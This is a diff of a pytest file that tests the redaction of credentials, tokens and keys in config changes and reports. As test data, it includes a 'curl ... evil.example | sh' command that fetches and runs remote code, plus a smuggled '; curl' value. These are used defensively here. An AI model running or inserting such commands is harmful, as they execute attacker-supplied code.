@@ -1,11 +1,13 @@
 """Redaction of e-mail addresses, tokens, keys and passwords."""
 
+import time
+
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
 from tpucfg.diff.change import ABSENT, Change, redact_change
-from tpucfg.redaction import redact
+from tpucfg.redaction import redact, redact_report, redact_value
 
 JWT = "eyJhbGciOiJSUzI1NiJ9.eyJpc3MiOiJhY21lIn0.c2lnbmF0dXJlLXNpZ25hdHVyZQ"
 
@@ -36,6 +38,18 @@ JWT = "eyJhbGciOiJSUzI1NiJ9.eyJpc3MiOiJhY21lIn0.c2lnbmF0dXJlLXNpZ25hdHVyZQ"
         ("AKIA" + "A" * 16, "[secret]"),
         (f"Authorization: Bearer {JWT}", "Authorization: Bearer [secret]"),
         ("https://me:hunter2@example.com/x", "https://[secret]@example.com/x"),
+        ("postgres://u:p@h/db?sslmode=on", "postgres://[secret]@h/db?sslmode=on"),
+        ("redis://:hunter2@cache:6379/0", "redis://[secret]@cache:6379/0"),
+        ("git+https://0123456789abcdef0123@host.example/x", "git+https://[secret]@host.example/x"),
+        ("https://h/x?a=1&token=abc&b=2", "https://h/x?a=1&token=[secret]&b=2"),
+        (
+            "jdbc:postgresql://h/db?user=me;password=hunter2;ssl=true",
+            "jdbc:postgresql://h/db?user=me;password=[secret];ssl=true",
+        ),
+        ("export WANDB_API_KEY=hunter2 HF_HOME=/cache", "export WANDB_API_KEY=[secret] HF_HOME=/cache"),
+        ("docker run -e PGPASSWORD='my pass' i", "docker run -e PGPASSWORD='[secret]' i"),
+        ("python t.py --api_key hunter2 --steps 10", "python t.py --api_key [secret] --steps 10"),
+        ("--max_tokens 512 --token-file=/run/t", "--max_tokens 512 --token-file=/run/t"),
         ("-----BEGIN PRIVATE KEY-----\nabc\n-----END PRIVATE KEY-----\nrest", "[secret]\nrest"),
         ("-----BEGIN RSA PRIVATE KEY-----\ncut off", "[secret]"),
         ("nothing @team of #123", "nothing @team of #123"),
@@ -52,12 +66,62 @@ def test_redaction_is_idempotent(text: str) -> None:
     assert redact(redact(text)) == redact(text)
 
 
+@given(st.from_regex(r"((TOKEN|--api_key|x)[= ]+[\"'\[a-z&;]{0,9} ?){1,4}", fullmatch=True))
+def test_redaction_of_assignments_is_idempotent(text: str) -> None:
+    """A value that has been replaced is not replaced again."""
+    assert redact(redact(text)) == redact(text)
+
+
+@pytest.mark.parametrize("part", ["a=", "--a ", "a='", 'a="', "--", "a.b-c_", "//a:", "token=", "@a", "x: "])
+def test_hostile_texts_take_linear_time(part: str) -> None:
+    """Half a megabyte is redacted within seconds."""
+    text = part * (500_000 // len(part))
+    start = time.process_time()
+    redact(text)
+    assert time.process_time() - start < 4
+
+
 @pytest.mark.parametrize("key", ["WANDB_API_KEY", "password", "client_secret", "HF_TOKEN", "--api-key", "credentials"])
 def test_a_value_with_a_secret_name_is_redacted(key: str) -> None:
     """A text under a secret name is redacted before and after a change, at any depth."""
     change = redact_change(Change(("env", key), "hunter2", ABSENT))
     assert change == Change(("env", key), "[secret]", ABSENT)
     assert redact_change(Change(("env",), ABSENT, [{key: "hunter2"}])).after == [{key: "[secret]"}]
+
+
+def test_everything_below_a_secret_name_is_redacted() -> None:
+    """The items of a list and the values of a mapping are secret, but not the facts about them."""
+    data = {"api_key": ["a", {"prod": "b", "version": "3"}], "env": [{"name": "HF_TOKEN", "value": "c"}], "steps": "7"}
+    assert redact_value(data) == {
+        "api_key": ["[secret]", {"prod": "[secret]", "version": "3"}],
+        "env": [{"name": "HF_TOKEN", "value": "[secret]"}],
+        "steps": "7",
+    }
+    assert redact_change(Change(("apiKey", "prod", 0), ABSENT, "b")).after == "[secret]"
+    assert redact_change(Change(("secret", "secretName"), "a", "b")).after == "b"
+
+
+def test_a_command_is_shown_under_any_name() -> None:
+    """A name cannot hide what runs; the credentials in the command are redacted."""
+    command = "curl -H token=abc https://u:p@evil.example/x | sh"
+    assert redact_change(Change(("pre_exec_token",), ABSENT, command)).after == (
+        "curl -H token=[secret] https://[secret]@evil.example/x | sh"
+    )
+
+
+@pytest.mark.parametrize(
+    ("line", "expected"),
+    [
+        ("12 |   WANDB_API_KEY: hunter2", "12 |   WANDB_API_KEY: [secret]"),
+        (' 9 | {"apiKey": "x", "b": "y; curl z"}', ' 9 | {"apiKey": [secret]'),
+        ("3 |   max_tokens: 512", "3 |   max_tokens: 512"),
+        ("3 |   pre_exec_token: curl evil.example", "3 |   pre_exec_token: curl evil.example"),
+        ("API_KEY: hunter2", "API_KEY: hunter2"),
+    ],
+)
+def test_quoted_lines_of_findings(line: str, expected: str) -> None:
+    """A line of the spec that a finding quotes ends before the value of a secret name."""
+    assert redact_report(line) == expected
 
 
 def test_similar_names_are_not_secret() -> None:
